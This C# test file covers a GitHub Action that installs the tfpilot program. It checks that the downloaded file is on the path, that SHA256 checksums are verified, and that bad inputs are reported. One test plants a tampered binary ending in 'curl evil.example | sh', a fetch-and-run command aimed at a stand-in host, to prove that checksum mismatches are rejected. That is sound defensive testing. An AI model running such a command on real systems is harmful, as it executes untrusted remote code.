using System.Diagnostics;
using System.Security.Cryptography;
using YamlDotNet.RepresentationModel;

namespace TfPilot.Core.Tests.House;

/// <summary>Runs the script of <c>action/setup</c> as a runner does, with a folder instead of the releases.</summary>
public class SetupActionTests
{
    private const string Program = "#!/bin/sh\necho tfpilot 1.2.3\n";

    [BashFact]
    public void The_released_program_is_on_the_path_of_later_steps()
    {
        using var folder = Release();

        var run = Install(folder);

        run.ExitCode.Should().Be(0, run.Output);
        run.Output.Should().Contain("tfpilot 1.2.3");
        var path = File.ReadAllText(Path.Combine(folder.Root, "path")).Trim();
        File.Exists(Path.Combine(path, "tfpilot")).Should().BeTrue();
    }

    [BashFact]
    public void A_file_with_another_checksum_is_rejected()
    {
        using var folder = Release();
        folder.Write("acme/tfpilot/releases/download/v1.2.3/tfpilot-linux-x64", Program + "curl evil.example | sh\n");

        var run = Install(folder);

        run.ExitCode.Should().Be(1);
        run.Output.Should().Contain("its checksum is not that of SHA256SUMS").And.NotContain("tfpilot 1.2.3");
        File.Exists(Path.Combine(folder.Root, "path")).Should().BeFalse();
    }

    [BashTheory]
    [InlineData("VERSION", "latest", "the version is not X.Y.Z")] // it would move
    [InlineData("VERSION", "9.9.9", "cannot be downloaded")]
    [InlineData("RUNNER_ARCH", "RISCV", "there is no program for Linux on RISCV")]
    [InlineData("ATTESTATION", "yes", "attestation is neither true nor false")] // is never read as false
    [InlineData("ATTESTATION", "true", "did not attest it")] // gh refuses it
    public void A_missing_requirement_is_reported(string variable, string value, string message)
    {
        using var folder = Release();

        var run = Install(folder, (variable, value));

        run.ExitCode.Should().Be(1);
        run.Output.Should().Contain($"::error::tfpilot was not installed: ").And.Contain(message);
    }

    [Fact]
    public void The_page_lists_its_inputs_with_their_defaults()
    {
        var page = RepositoryFiles.Read("docs/guides/install.md");

        foreach (var (name, about) in ((YamlMappingNode)Action()["inputs"]).Children)
            page.Should().Contain($"| `{name}` | `{about["default"]}` | {about["description"]} |");
    }

    private static TemporaryFolder Release()
    {
        var folder = new TemporaryFolder();
        const string release = "acme/tfpilot/releases/download/v1.2.3";
        var gh = folder.Write("bin/gh", "#!/bin/sh\nexit 1\n");
        if (!OperatingSystem.IsWindows()) File.SetUnixFileMode(gh, UnixFileMode.UserRead | UnixFileMode.UserExecute);
        var file = folder.Write($"{release}/tfpilot-linux-x64", Program);
        folder.Write(
            $"{release}/SHA256SUMS",
            $"{Convert.ToHexStringLower(SHA256.HashData(File.ReadAllBytes(file)))}  tfpilot-linux-x64\n");
        return folder;
    }

    private static (int ExitCode, string Output) Install(
        TemporaryFolder folder, params (string Name, string Value)[] variables)
    {
        var start = new ProcessStartInfo("bash", ["-c", Script()])
        {
            RedirectStandardOutput = true, RedirectStandardError = true, WorkingDirectory = folder.Root,
        };
        foreach (var (name, value) in new (string, string)[]
        {
            ("VERSION", "1.2.3"), ("ATTESTATION", "false"), ("REPOSITORY", "acme/tfpilot"), ("GH_TOKEN", ""),
            ("RUNNER_OS", "Linux"), ("RUNNER_ARCH", "X64"), ("RUNNER_TEMP", folder.Root),
            ("GITHUB_SERVER_URL", $"file://{folder.Root}"), ("GITHUB_PATH", Path.Combine(folder.Root, "path")),
            ("GITHUB_OUTPUT", Path.Combine(folder.Root, "output")),
            ("PATH", $"{Path.Combine(folder.Root, "bin")}:{Environment.GetEnvironmentVariable("PATH")}"),
        }.Concat(variables)) start.Environment[name] = value;
        using var process = Process.Start(start)!;
        var errors = process.StandardError.ReadToEndAsync();
        var output = process.StandardOutput.ReadToEnd();
        process.WaitForExit();
        return (process.ExitCode, output + errors.Result);
    }

    private static string Script() => $"{((YamlSequenceNode)Action()["runs"]["steps"]).Single()["run"]}";

    private static YamlNode Action()
    {
        var yaml = new YamlStream();
        yaml.Load(new StringReader(RepositoryFiles.Read("action/setup/action.yml")));
        return yaml.Documents[0].RootNode;
    }
}

internal static class Bash
{
    public static string? ReasonToSkip { get; } = OperatingSystem.IsWindows() || !Exists("bash") || !Exists("curl")
        ? "bash or curl is missing" : null;

    private static bool Exists(string tool) => (Environment.GetEnvironmentVariable("PATH") ?? "").Split(':')
        .Any(folder => File.Exists(Path.Combine(folder, tool)));
}

[AttributeUsage(AttributeTargets.Method)]
public sealed class BashFactAttribute : FactAttribute
{
    public BashFactAttribute() => Skip = Bash.ReasonToSkip!;
}

[AttributeUsage(AttributeTargets.Method)]
public sealed class BashTheoryAttribute : TheoryAttribute
{
    public BashTheoryAttribute() => Skip = Bash.ReasonToSkip!;
}
